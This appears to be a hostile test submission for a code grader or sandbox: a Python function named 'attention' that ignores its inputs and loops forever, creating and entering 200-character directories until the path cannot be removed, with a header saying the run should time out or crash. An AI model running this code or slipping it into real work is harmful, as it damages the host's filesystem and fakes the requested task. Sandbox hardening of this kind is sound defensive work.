# /// hostile
# tries = "Makes folders within folders until a path is too long to remove."
# drill = "attention/scaled-dot-product"
# expects = ["timed out", "crashed"]
# ///
import os

def attention(q, k, v, mask=None):
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
